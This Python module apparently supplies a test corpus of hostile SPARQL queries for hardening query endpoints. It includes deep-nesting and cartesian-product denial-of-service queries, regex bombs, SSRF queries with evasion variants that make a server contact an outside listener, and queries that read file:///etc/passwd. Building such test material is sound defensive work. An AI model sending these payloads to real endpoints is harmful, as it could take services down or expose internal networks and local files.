"""Queries that take endpoints down: deep, long, endless, hungry, and those that reach out to the network."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

PRODUCT = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l"


def _nested(opening: str, closing: str, inner: str = "") -> Callable[[int], str]:
    return lambda n: f"SELECT * {{ {opening * n}{inner}{closing * n} }}"


SHAPES: dict[str, Callable[[int], str]] = {
    "groups": _nested("{", "}"),
    "exists": _nested("FILTER EXISTS {", "}"),
    "not exists": _nested("FILTER NOT EXISTS { ?s ?p ?o ", "}"),
    "optionals": _nested("OPTIONAL {", "}", "?s ?p ?o"),
    "sub-selects": _nested("{ SELECT * {", "}}", "?s ?p ?o"),
    "minus": _nested("?s ?p ?o MINUS {", "}"),
    "graphs": _nested("GRAPH ?g {", "}"),
    "brackets": lambda n: f"SELECT ({'(' * n}1{')' * n} AS ?x) {{}}",
    "functions": lambda n: f"SELECT ({'STR(' * n}1{')' * n} AS ?x) {{}}",
    "negations": lambda n: f"SELECT ({'!' * n}true AS ?x) {{}}",
    "minuses": lambda n: f"SELECT ({'- ' * n}1 AS ?x) {{}}",
    "lists": lambda n: f"SELECT * {{ ?s ?p {'( ' * n}{') ' * n} }}",
    "blank nodes": lambda n: f"SELECT * {{ ?s ?p {'[ ?p ' * n} 1 {'] ' * n} }}",
    "triple terms": lambda n: f"SELECT * {{ ?s ?p {'<<( ?s ?p ' * n} 1 {' )>>' * n} }}",
    "bind chain": lambda n: "SELECT * {" + " ".join(f"BIND({f'?v{i - 1} + ' if i else ''}1 AS ?v{i})" for i in range(n)) + "}",
    "unions": lambda n: "SELECT * {" + "{ ?s ?p ?o } UNION " * n + "{} }",
    "flat optionals": lambda n: "SELECT * { ?s ?p ?o " + " ".join(f"OPTIONAL {{ ?s ?p{i} ?o{i} }}" for i in range(n)) + "}",
    "flat joins": lambda n: "SELECT * {" + " . ".join(f"?s{i} ?p ?s{i + 1}" for i in range(n)) + "}",
    "star joins": lambda n: "SELECT (COUNT(*) AS ?n) {" + " . ".join(f"?s ?p{i} ?o{i}" for i in range(n)) + "}",
    "filters": lambda n: "SELECT * { ?s ?p ?o " + "FILTER(?o != 1) " * n + "}",
    "path steps": lambda n: "SELECT * { ?s " + "/".join(["!<urn:x>"] * n) + " ?o }",
    "path choices": lambda n: "SELECT * { ?s " + "|".join(f"<urn:{i}>" for i in range(n)) + " ?o }",
    "nested paths": lambda n: "SELECT * { ?s " + "(" * n + "!<urn:x>" + ")*" * n + " ?o }",
    "values": lambda n: "SELECT * { VALUES ?x {" + " ".join(map(str, range(n))) + "} VALUES ?y {" + " 1" * n + "} }",
    "in list": lambda n: "SELECT * { ?s ?p ?o FILTER(?o IN (" + ",".join(map(str, range(n))) + ")) }",
    "prefixes": lambda n: "".join(f"PREFIX p{i}: <urn:{i}>\n" for i in range(n)) + "ASK {}",
    "projection": lambda n: "SELECT " + " ".join(f"(1 AS ?x{i})" for i in range(n)) + " {}",
    "concat": lambda n: "SELECT (CONCAT(" + ",".join(["'x'"] * n) + ") AS ?x) {}",
    "comment": lambda n: "ASK {} #" + "x" * n,
    "string": lambda n: f"SELECT ('{'x' * n}' AS ?x) {{}}",
    "unclosed strings": lambda n: "SELECT * { ?s ?p '''" + '"""' * n,
}
ENDLESS = {
    "count of a product": f"SELECT (COUNT(*) AS ?n) {{ {PRODUCT} }}",
    "product without rows": f"SELECT * {{ {PRODUCT} FILTER(?a = 1 && ?c = 2) }}",
    "rows of a product": f"SELECT * {{ {PRODUCT} }}",
    "order by over a product": f"SELECT * {{ {PRODUCT} }} ORDER BY ?c ?f ?i",
    "distinct over a product": f"SELECT DISTINCT * {{ {PRODUCT} }}",
    "groups of a product": f"SELECT ?a ?d ?g (COUNT(*) AS ?n) {{ {PRODUCT} }} GROUP BY ?a ?d ?g",
    "concat over a product": f"SELECT (GROUP_CONCAT(STR(?c)) AS ?x) {{ {PRODUCT} }}",
    "graph of a product": f"CONSTRUCT {{ ?a ?e ?l }} {{ {PRODUCT} }}",
    "ask of a product": f"ASK {{ {PRODUCT} FILTER(STRLEN(STR(?l)) > 1000000) }}",
    "describe of a product": f"DESCRIBE ?a ?d ?g {{ {PRODUCT} }}",
    "paths everywhere": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>|^!<urn:y>)* ?b . ?c (!<urn:x>)* ?d . ?e (!<urn:x>)* ?f }",
    "thousand steps": "SELECT * { ?s " + "/".join(["!<urn:x>"] * 450) + " ?o }",
    "exists over a product": f"SELECT * {{ ?s ?p ?o FILTER NOT EXISTS {{ {PRODUCT} FILTER(?a = ?s && ?l = 7) }} }}",
    "regex over a product": f"SELECT (COUNT(*) AS ?n) {{ {PRODUCT} FILTER(REGEX(STR(?c), '(a*)*(b*)*x$')) }}",
    "regex bomb": "SELECT * { ?s ?p ?o FILTER(REGEX('" + "a" * 5000 + "', '^(((a+)+)+)+$', 'i')) }",
    "regex too big": "SELECT * { ?s ?p ?o FILTER(REGEX(STR(?o), '((a{1000}){1000}){1000}')) }",
    "doubling strings": "SELECT (STRLEN(?v40) AS ?n) { BIND('xxxxxxxx' AS ?v0) "
    + " ".join(f"BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1})" for i in range(40)) + "}",
    "replace": "SELECT (STRLEN(REPLACE(REPLACE(REPLACE('" + "x" * 900 + "', 'x', '" + "y" * 900 + "'), 'y', '" + "z" * 900
    + "'), 'z', 'zzzzzzzzzz')) AS ?n) {}",
}  # fmt: skip
# {url} is a listener that must never be reached
REACHING = {
    "service": "SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "service silent": "SELECT * {{ SERVICE SILENT <{url}> {{ ?s ?p ?o }} }}",
    "service small": "select*{{service<{url}>{{?s ?p ?o}}}}",
    "service mixed case": "SELECT * {{ sErViCe <{url}> {{ }} }}",
    "service in a comment's shadow": "SELECT * {{ # SERVICE\n SERVICE # <urn:x>\n <{url}> {{ }} }}",
    "service after a string": "SELECT * {{ ?s ?p 'SERVICE \\' {{' . SERVICE <{url}> {{ }} }}",
    "service after a long string": 'SELECT * {{ ?s ?p """ " \\""" SERVICE """ . SERVICE <{url}> {{ }} }}',
    "service escaped": "SELECT * {{ \\u0053ERVICE <{url}> {{ }} }}",
    "service escaped iri": "SELECT * {{ SERVICE <\\u0068{rest}> {{ }} }}",
    "service by prefix": "PREFIX x: <{url}> SELECT * {{ SERVICE x: {{ }} }}",
    "service as a prefix": "PREFIX : <{url}> SELECT * {{ SERVICE:{{ }} }}",
    "service by base": "BASE <{url}> SELECT * {{ SERVICE <> {{ }} }}",
    "service variable": "SELECT * {{ BIND(<{url}> AS ?x) SERVICE ?x {{ ?s ?p ?o }} }}",
    "service values": "SELECT * {{ VALUES ?x {{ <{url}> }} SERVICE ?x {{ ?s ?p ?o }} }}",
    "service in exists": "ASK {{ FILTER EXISTS {{ SERVICE <{url}> {{ }} }} }}",
    "service in optional": "SELECT * {{ OPTIONAL {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "service in sub-select": "SELECT * {{ {{ SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }} LIMIT 0 }} }}",
    "service in construct": "CONSTRUCT {{ ?s ?p ?o }} {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "service in describe": "DESCRIBE ?s {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "service after a dot": "SELECT * {{ ?s ?p true.SERVICE <{url}> {{ }} }}",
    "service after a number": "SELECT * {{ ?s ?p 1.SERVICE <{url}> {{ }} }}",
    "service limit 0": "SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }} LIMIT 0",
    "from": "SELECT * FROM <{url}> {{ ?s ?p ?o }}",
    "from named": "SELECT * FROM NAMED <{url}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "from file": "SELECT * FROM <file:///etc/passwd> {{ ?s ?p ?o }}",
    "graph": "SELECT * {{ GRAPH <{url}> {{ ?s ?p ?o }} }}",
    "describe": "DESCRIBE <{url}>",
}
REACHING_UPDATES = {
    "load": "LOAD <{url}>",
    "load silent": "LOAD SILENT <{url}> INTO GRAPH <urn:g>",
    "load later": "CREATE SILENT GRAPH <urn:g> ;\nload <{url}>",
    "load file": "LOAD <file:///etc/passwd>",
    "load data": "LOAD <data:text/turtle,%3Curn:a%3E%20%3Curn:b%3E%201.>",
    "service": "INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "service as a prefix": "PREFIX : <{url}> INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE:{{ ?s ?p ?o }} }}",
    "using": "INSERT {{ ?s ?p ?o }} USING <{url}> WHERE {{ ?s ?p ?o }}",
    "copy": "COPY <{url}> TO <urn:g>",
}


def reaching(table: dict[str, str], url: str) -> Iterator[tuple[str, str]]:
    """Yield name and text of everything that tries to reach ``url``."""
    for name, text in table.items():
        yield name, text.format(url=url, rest=url[1:])


def fuzz(chance: random.Random, url: str) -> tuple[str, str]:
    """Return name and text of one query of the corpus, drawn by ``chance``; some are broken on the way."""
    draw = chance.random()
    if draw < 0.5:
        name = chance.choice(list(SHAPES))
        text = SHAPES[name](chance.choice((1, 10, 90, 150, 480, 1000, 3000)))
    elif draw < 0.75:
        name, text = chance.choice(list(ENDLESS.items()))
    else:
        name, text = chance.choice(list(reaching(REACHING, url)))
    if chance.random() < 0.1:
        cut = chance.randrange(len(text) + 1)
        text = text[:cut] + chance.choice(["", "{", "'", '"""', "\\", "\u2028", "<", "\x01", "}"]) + text[cut:]
    return name, text
